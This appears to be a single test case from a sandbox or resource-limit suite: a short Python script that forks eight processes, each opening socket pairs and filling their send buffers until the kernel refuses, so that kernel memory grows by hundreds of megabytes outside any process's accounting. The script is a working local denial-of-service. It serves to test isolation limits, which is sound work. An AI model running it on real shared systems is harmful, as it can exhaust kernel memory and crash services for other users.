# Tries: Memory that belongs to no process: eight processes fill the buffers of all sockets they may open.
# Trace: the kernel's memory (Slab in /proc/meminfo, or what is available) changes by more than 600 MB
# Wins against: stock
# %% cell: q1_minimum
import os
import socket
import time

for _ in range(8):
    if os.fork() == 0:
        pairs = []
        try:
            while True:
                pairs.append(socket.socketpair())
                pairs[-1][0].setblocking(False)
                try:
                    pairs[-1][0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
                except PermissionError:
                    pass
                try:
                    while True:
                        pairs[-1][0].send(bytes(2**16))
                except BlockingIOError:
                    pass
        except OSError:
            time.sleep(5)
        os._exit(0)
time.sleep(5)
